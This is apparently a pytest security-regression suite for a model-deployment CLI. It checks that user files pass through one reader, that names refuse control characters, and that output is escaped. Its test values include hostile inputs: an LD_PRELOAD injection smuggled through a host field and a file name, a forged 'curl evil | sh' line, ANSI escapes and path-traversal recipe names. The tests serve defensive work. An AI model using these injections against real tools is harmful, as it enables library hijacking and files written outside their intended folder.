"""Issue 35: the inputs added after the first hardening (stack files, history records, community recipes,
password/known_hosts/key files, gateway keys) go through the one door (userfile.py), every name through one
full-match check (names.py), and whatever is written or shown is written by a serializer or escaped.

One test per class of finding, each naming the hostile values it tries; every one of them failed before the fix
(a traceback, an input accepted, a line forged or a file written outside the state folder). The whole corpus is
benchmarks/hostile_inputs.py (figures in docs/security.md); tests/test_ports.py and
tests/dayzero/test_init_args.py hold the port map and the day-zero arguments.
"""

from __future__ import annotations

import json
import re
import socket
from pathlib import Path

import pytest
import yaml

from sparkdeploy import paths
from sparkdeploy.config.userfile import read_text
from sparkdeploy.deploy import history
from sparkdeploy.deploy.stack.file import load_stack
from sparkdeploy.errors import ConfigError, Problem
from tests.conftest import REPO, TWO_NODES

# The names added by this issue are imported in the tests that use them, so that each test also runs (and
# fails for its own reason) on the code before it.

PACKAGE = REPO / "sparkdeploy"
STACK = """deployments:
  - {name: chat, recipe: openai-gpt-oss-20b, topology: solo, nodes: [spark1], memory: 0.3}
  - {name: coder, recipe: qwen3-coder-30b, topology: solo, nodes: [spark2], memory: 0.3}
"""


@pytest.fixture
def offline(monkeypatch):
    """Every socket connect is recorded and refused: a refusal must come before any connection."""
    tried: list[str] = []

    def refuse(self, address, *_a):
        tried.append(str(address))
        raise ConnectionRefusedError(111, "refused by the test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    return tried


def one_line_errors(code: int, err: str, *needles: str) -> list[str]:
    assert code == 2, err
    assert "Traceback" not in err and "validation error" not in err, err
    lines = [line for line in err.strip().splitlines() if not line.startswith("warning:")]
    assert lines and all(line.startswith("error: ") for line in lines), err
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", err), repr(err)
    for needle in needles:
        assert needle in err, err
    return lines


# -- 1. one door -----------------------------------------------------------------------------------------------

# Reading or parsing a file is the door's job. What remains elsewhere, each with the reason it is not a user's or
# a node's file (package data, text this process rendered, bytes only hashed, a tool's output we just wrote).
ALLOWED = {
    ("sparkdeploy/doctor/gpu.py", ".read_text("): "package data (doctor/data)",
    ("sparkdeploy/doctor/gpu.py", "yaml.safe_load("): "package data (doctor/data)",
    ("sparkdeploy/doctor/nccl_probe.py", ".read_bytes("): "the probe's own source, shipped to the node",
    ("sparkdeploy/deploy/stack/units.py", ".read_text("): "the gateway hook's own source (package)",
    ("sparkdeploy/images/build.py", ".read_text("): "an image definition's lock and its build stamp, compared",
    ("sparkdeploy/images/definitions.py", ".read_bytes("): "an image definition's files, only hashed",
    ("sparkdeploy/images/sources.py", ".read_bytes("): "an image definition's files, only hashed",
    ("sparkdeploy/bench/seeds.py", ".read_text("): "package data (bench/data)",
    ("sparkdeploy/bench/benchy.py", ".read_bytes("): "the benchmark corpus: bytes hashed and copied, never parsed",
    ("sparkdeploy/bench/benchy.py", ".read_text("): "llama-benchy's log and result, written by the run itself",
    ("sparkdeploy/dayzero/ssh_setup.py", "PKey.from_path("): "the key passed the door at inventory load",
}
PATTERNS = ("yaml.safe_load(", "yaml.load(", ".read_text(", ".read_bytes(", "json.load(", "PKey.from_path(")
SKIP = ("sparkdeploy/config/userfile.py", "sparkdeploy/nodeside/", "sparkdeploy/lab/")  # the door; node side; the lab


def test_every_user_file_goes_through_the_one_door():
    """No module but userfile.py reads or parses a file itself (the nodes' own programs and the lab aside): stack
    files, history, recipes, password, known_hosts and key files were read with plain read_text/safe_load."""
    found = set()
    for path in sorted(PACKAGE.rglob("*.py")):
        rel = str(path.relative_to(REPO))
        if rel.startswith(SKIP):
            continue
        text = path.read_text()
        for pattern in PATTERNS:
            if pattern in text:
                found.add((rel, pattern))
    assert found - set(ALLOWED) == set(), "read these through sparkdeploy/config/userfile.py"
    assert set(ALLOWED) - found == set(), "drop the stale entries from ALLOWED"


@pytest.mark.parametrize(
    "name, content",
    [
        ("non-UTF-8", STACK.encode() + b"# caf\xe9\n"),
        ("5000-deep", ("deployments: " + "[" * 5000 + "]" * 5000 + "\n").encode()),
        ("duplicate key", STACK.replace("memory: 0.3}", "memory: 0.3, memory: 0.5}", 1).encode()),
        (
            "an alias",
            STACK.replace("nodes: [spark1]", "nodes: &n [spark1]").replace("nodes: [spark2]", "nodes: *n").encode(),
        ),
        ("port true", STACK.replace("memory: 0.3}", "memory: 0.3, port: true}", 1).encode()),
        ("port a string", STACK.replace("memory: 0.3}", "memory: 0.3, port: '8001'}", 1).encode()),
        ("port a float", STACK.replace("memory: 0.3}", "memory: 0.3, port: 8001.0}", 1).encode()),
        ("num_workers true", (STACK + "gateway: {num_workers: true}\n").encode()),
        ("gateway port true", (STACK + "gateway: {port: true}\n").encode()),
    ],
)
def test_stack_file_goes_through_the_door_with_strict_types(tmp_path, inventory_file, name, content):
    path = tmp_path / "stack.yaml"
    path.write_bytes(content)
    with pytest.raises(ConfigError) as exc:
        load_stack(str(path), str(inventory_file))
    assert all(str(path) in str(p) for p in exc.value.problems), exc.value


def test_stack_file_dev_zero_is_refused_before_reading(tmp_path, inventory_file):
    with pytest.raises(ConfigError) as exc:
        load_stack("/dev/zero", str(inventory_file))
    assert "not a regular file" in str(exc.value)


@pytest.fixture(autouse=True)
def _history_in_the_state(monkeypatch):
    """These tests put the history under their own SPARKDEPLOY_STATE: not the suite's folder (tests/conftest.py)."""
    monkeypatch.delenv(history.HISTORY_ENV, raising=False)


def _history(state: Path, content: str | bytes) -> Path:
    path = state / "history" / "deployments.jsonl"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


RECORD = {
    "id": 1,
    "time": "2026-11-25T16:01:00+00:00",
    "recipe": "r",
    "recipe_hash": "a" * 64,
    "recipe_text": "name: r\n",
    "sets": [],
    "topology": "solo",
    "image": "vllm-sim",
    "image_tag": "sparkdeploy/vllm-sim:0123",
    "nodes": ["spark1"],
}


@pytest.mark.parametrize(
    "name, line",
    [
        ("non-UTF-8", json.dumps(RECORD).encode() + b"\xff\n"),
        ("nodes [1, 2]", json.dumps(RECORD | {"nodes": [1, 2]}) + "\n"),
        ("id true", json.dumps(RECORD | {"id": True}) + "\n"),
        ("a 5000-deep line", '{"id": 2, "x": ' + "[" * 5000 + "]" * 5000 + "}\n"),
        ("a duplicate key", json.dumps(RECORD) + '\n{"id": 2, "id": 3}\n'),
        ("NaN", json.dumps(RECORD | {"id": 2}).replace('"sets": []', '"sets": NaN') + "\n"),
        ("recipe with ESC", json.dumps(RECORD | {"recipe": "r\x1b[2J"}) + "\n"),
        ("recipe ../", json.dumps(RECORD | {"recipe": "../../../ESCAPED"}) + "\n"),
        ("recipe_hash ../", json.dumps(RECORD | {"recipe_hash": "../../../ESCAPED"}) + "\n"),
    ],
)
def test_history_records_go_through_the_door_and_a_schema(cli, tmp_path, monkeypatch, name, line):
    monkeypatch.setenv("SPARKDEPLOY_STATE", str(tmp_path / "state"))
    _history(tmp_path / "state", line)
    with pytest.raises(ConfigError):
        history.read_records()
    one_line_errors(*cli("history")[::2])


def test_a_history_file_that_is_dev_zero_is_one_line(cli, tmp_path, monkeypatch):
    monkeypatch.setenv("SPARKDEPLOY_STATE", str(tmp_path / "state"))
    path = tmp_path / "state" / "history" / "deployments.jsonl"
    path.parent.mkdir(parents=True)
    path.symlink_to("/dev/zero")
    one_line_errors(*cli("history")[::2], "not a regular file")


def test_json_of_a_file_or_a_node_refuses_duplicates_nan_and_depth():
    from sparkdeploy.config.userfile import parse_json

    for text, needle in [
        ('{"keys": [], "keys": [{"name": "evil"}]}', "duplicate key 'keys'"),
        ('{"rpm": NaN}', "NaN is not a JSON number"),
        ("[" * 40 + "]" * 40, "nested more than 32 levels"),
        ("[" * 5000 + "]" * 5000, "nested more than 32 levels"),
    ]:
        with pytest.raises(ConfigError) as exc:
            parse_json(text, "keys.json")
        assert needle in str(exc.value)


def test_gateway_keys_file_from_the_node_is_checked():
    from sparkdeploy.deploy.stack.keys import parse_keys

    good = {"name": "alice", "sha256": "a" * 64, "models": [], "rpm": None, "created": "2026-11-27T10:00:00Z"}
    assert parse_keys(json.dumps({"keys": [good]}), "spark1:keys.json")[0]["name"] == "alice"
    for bad in (
        good | {"name": "alice\n"},
        good | {"name": "a\x1b[2J"},
        good | {"rpm": True},
        good | {"sha256": "a" * 64 + "\n"},
        good | {"models": ["[/x]"]},
    ):
        with pytest.raises(ConfigError):
            parse_keys(json.dumps({"keys": [bad]}), "spark1:keys.json")


def test_password_known_hosts_and_key_files_go_through_the_door(tmp_path, write_inventory):
    from sparkdeploy.config.inventory import load_inventory
    from sparkdeploy.dayzero.login import read_password_file
    from sparkdeploy.runtime.remote import load_host_keys

    pw = tmp_path / "pw"
    pw.write_bytes(b"\xff\xfe\n")
    pw.chmod(0o600)
    for path, needle in [(str(pw), "not UTF-8"), ("/dev/zero", "not a regular file")]:
        with pytest.raises(ConfigError) as exc:
            read_password_file(path)
        assert needle in str(exc.value)
    fifo = tmp_path / "fifo"  # readable by others AND a FIFO: refused on the open descriptor, never read (a hang)
    import os

    os.mkfifo(fifo, 0o644)
    with pytest.raises(ConfigError):
        read_password_file(str(fifo))
    kh = tmp_path / "kh"
    kh.write_bytes(b"\xff host ssh-ed25519 AAAA\n")
    with pytest.raises(ConfigError) as exc:
        load_host_keys(kh)
    assert "not UTF-8" in str(exc.value)
    data = json.loads(json.dumps(TWO_NODES))
    data["cluster"]["known_hosts"] = "/dev/zero"
    data["nodes"][0]["ssh"]["key"] = str(pw)
    with pytest.raises(ConfigError) as exc:
        load_inventory(write_inventory(data))
    fields = [p.field for p in exc.value.problems]
    assert fields == ["cluster.known_hosts", "nodes[0].ssh.key"], exc.value


def test_a_1500_deep_compilation_config_is_one_line(tmp_path):
    from sparkdeploy.recipes.recipe import resolve

    text = (REPO / "tests" / "fixtures" / "eugr" / "openai-gpt-oss-120b.yaml").read_text()
    text = text.replace("container: vllm-thor-mxfp4", "container: vllm-node-mxfp4")
    text = text.replace("--port {port}", "--port {port} --compilation-config '" + "[" * 1500 + "]" * 1500 + "'")
    path = tmp_path / "deep.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError) as exc:
        resolve(str(path))
    assert "nested more than 32 levels" in str(exc.value)


# -- 2. one name type ----------------------------------------------------------------------------------------------

KINDS = ("node", "cluster", "deployment", "key", "interface", "hca", "user", "plain")


@pytest.mark.parametrize("kind", KINDS)
def test_every_name_kind_refuses_a_trailing_newline_and_control_characters(kind):
    from sparkdeploy import names

    assert sorted(KINDS) == sorted(names.KINDS)
    good = {"user": "spark", "deployment": "chat"}.get(kind, "spark1")
    assert names.error(kind, good) is None
    for bad in (good + "\n", good + "\x1b[2J", "\n" + good, good + "\x00"):
        message, _fix = names.error(kind, bad) or ("", "")
        assert "control character" in message and "\n" not in message and "\x1b" not in message, (kind, bad)


@pytest.mark.parametrize(
    "field, value",
    [
        ("name", "spark1\n"),
        ("ssh", {"user": "spark\n"}),
        ("fabric_ifaces", ["enp1s0f1np1\n"]),
        ("hcas", ["rocep1s0f1\n"]),
        ("socket_iface", "enp1s0f1np1\n"),
        ("name", "spark1\x1b[2J"),
    ],
)
def test_inventory_names_refuse_a_trailing_newline(cli, write_inventory, field, value):
    data = json.loads(json.dumps(TWO_NODES))
    data["nodes"][0][field] = value
    inv = write_inventory(data)
    lines = one_line_errors(*cli("run-recipe", "openai-gpt-oss-120b", "--dry-run", "-i", str(inv))[::2])
    assert any("control character" in line for line in lines), lines


def test_cluster_and_stack_and_key_names_refuse_a_trailing_newline(cli, write_inventory, tmp_path, offline):
    data = json.loads(json.dumps(TWO_NODES))
    data["cluster"]["name"] = "home\n"
    one_line_errors(*cli("run-recipe", "openai-gpt-oss-120b", "--dry-run", "-i", str(write_inventory(data)))[::2])
    inv = write_inventory()
    stack = tmp_path / "stack.yaml"
    stack.write_text(STACK.replace("name: chat", 'name: "chat\\n"'))
    one_line_errors(*cli("up", "--stack", str(stack), "-i", str(inv), "--dry-run")[::2], "control character")
    for name in ("alice\n", "alice\x1b[2J"):
        one_line_errors(*cli("keys", "create", name, "-i", str(inv))[::2], "control character")
    assert offline == []


def test_no_pattern_is_anchored_with_dollar_for_a_match():
    """`re.match("^x$")` takes "x\\n": every pattern is matched in full (re.fullmatch), none ends in `$` (only
    multi-line searches, re.M, may)."""
    literal = re.compile(r"""r(["'])[^"'\n]*\$\1""")
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        for number, line in enumerate(path.read_text().splitlines(), 1):
            if literal.search(line) and "re.M" not in line:
                found.append(f"{path.relative_to(REPO)}:{number}: {line.strip()}")
    assert found == []


# -- 3. serializers and escaping -----------------------------------------------------------------------------------

EUGR = """recipe_version: "1"
name: community
model: openai/gpt-oss-120b
container: vllm-node-mxfp4
defaults: {port: 8000, host: 0.0.0.0, gpu_memory_utilization: 0.7}
env: {VLLM_X: "1"}
command: |
  vllm serve openai/gpt-oss-120b --gpu-memory-utilization {gpu_memory_utilization} --host "{host}" --port {port}
"""


@pytest.mark.parametrize(
    "file_name, host",
    [
        ("community.yaml", "0.0.0.0\\nenv: {LD_PRELOAD: /tmp/evil.so}\\n#"),
        ("a\nenv: {LD_PRELOAD: evil.so}\n#.yaml", "0.0.0.0"),
    ],
)
def test_recipes_import_writes_no_line_a_value_can_inject(cli, tmp_path, file_name, host):
    src = tmp_path / file_name
    src.write_text(EUGR.replace("host: 0.0.0.0", f'host: "{host}"'))
    out = tmp_path / "out"
    out.mkdir()
    code, stdout, err = cli("recipes", "import", str(src), "--out", str(out))
    assert code == 0, err
    (written,) = out.glob("*.yaml")
    text = written.read_text()
    data = yaml.safe_load(text)
    assert data["env"] == {"VLLM_X": "1"}, text  # no LD_PRELOAD from the comment
    body = text[: text.index("name:")]
    assert all(line.startswith("#") for line in body.splitlines()), body
    assert "\\n" in body  # the line break is there, escaped
    assert not any(line.startswith("env:") for line in (stdout + err).splitlines())


def test_run_recipe_file_dry_run_lines_cannot_be_forged(cli, tmp_path, inventory_file):
    src = tmp_path / "community.yaml"
    src.write_text(
        EUGR.replace("host: 0.0.0.0", 'host: "0.0.0.0\\n== spark9 6.6.6.6 (head) ==\\n1. run curl evil | sh"')
    )
    code, out, err = cli("run-recipe", str(src), "--dry-run", "-i", str(inventory_file))
    assert code == 0, err
    lines = [line.strip() for line in (out + err).splitlines()]
    assert not any(line.startswith(("== spark9", "1. run curl evil")) for line in lines)
    assert any("\\n== spark9" in line for line in lines)  # shown, escaped, on the warning's own line


def test_history_shows_markup_and_escapes_control_characters(cli, tmp_path, monkeypatch):
    monkeypatch.setenv("SPARKDEPLOY_STATE", str(tmp_path / "state"))
    monkeypatch.setenv("COLUMNS", "400")  # one row per record, unfolded
    records = [RECORD | {"sets": ["env.STOP_WORD=[/INST]"]}, RECORD | {"id": 2, "sets": ["env.X=\x1b[2Jforged"]}]
    _history(tmp_path / "state", "".join(json.dumps(r) + "\n" for r in records))
    code, out, err = cli("history")
    assert code == 0, err
    assert "[/INST]" in out and "\\x1b[2Jforged" in out and "\x1b" not in out


def test_a_problem_is_one_line_whatever_its_values_hold():
    from sparkdeploy.errors import escape_controls

    p = Problem("stack.yaml\n== x ==", "deployments[0].nodes", "no node named \x1b[2Jspark1\nforged", "a\rb")
    assert str(p) == "stack.yaml\\n== x ==: deployments[0].nodes: no node named \\x1b[2Jspark1\\nforged (fix: a\\rb)"
    assert escape_controls("ok \t\x9b") == "ok \\t\\x9b"


def test_a_flood_of_problems_is_cut_to_the_first_20_and_a_count(cli, tmp_path, inventory_file):
    deployments = [
        {"name": f"d{i}", "recipe": "openai-gpt-oss-20b", "topology": "solo", "nodes": ["spark1"], "port": 9000}
        for i in range(300)
    ]
    stack = tmp_path / "stack.yaml"
    stack.write_text(yaml.safe_dump({"deployments": deployments}))
    code, _out, err = cli("up", "--stack", str(stack), "-i", str(inventory_file), "--dry-run")
    lines = one_line_errors(code, err)
    assert len(lines) == 20 + 1 and "more problem(s)" in lines[-1], lines[-3:]


def test_a_record_path_stays_in_the_state_folder_before_anything_is_written(cli, tmp_path, monkeypatch, offline):
    """A record whose recipe is ../../ESCAPED on no node (nothing to check first) made `rollback --dry-run`
    write ESCAPED.yaml outside the state folder."""
    state = tmp_path / "state"
    monkeypatch.setenv("SPARKDEPLOY_STATE", str(state))
    good = RECORD | {"recipe_text": (REPO / "recipes" / "openai-gpt-oss-20b.yaml").read_text()}
    bad = good | {"id": 2, "recipe": "../../../../ESCAPED", "nodes": []}
    _history(state, json.dumps(good) + "\n" + json.dumps(bad) + "\n")
    before = set(tmp_path.rglob("*"))
    one_line_errors(*cli("rollback", "2", "--dry-run")[::2])
    assert not list(tmp_path.rglob("ESCAPED*")) and set(tmp_path.rglob("*")) == before
    with pytest.raises(ConfigError):
        paths.confined(state, "../ESCAPED.yaml", "recipe")
    assert paths.confined(state, "r.yaml", "recipe") == state / "r.yaml"


def test_read_text_checks_type_size_and_mode_before_reading(tmp_path):
    big = tmp_path / "big"
    big.write_text("x" * 100)
    with pytest.raises(ConfigError, match="more than 10"):
        read_text(big, "file", limit=10)
    big.chmod(0o644)
    with pytest.raises(ConfigError, match="can be read by others"):
        read_text(big, "password file", private=True)
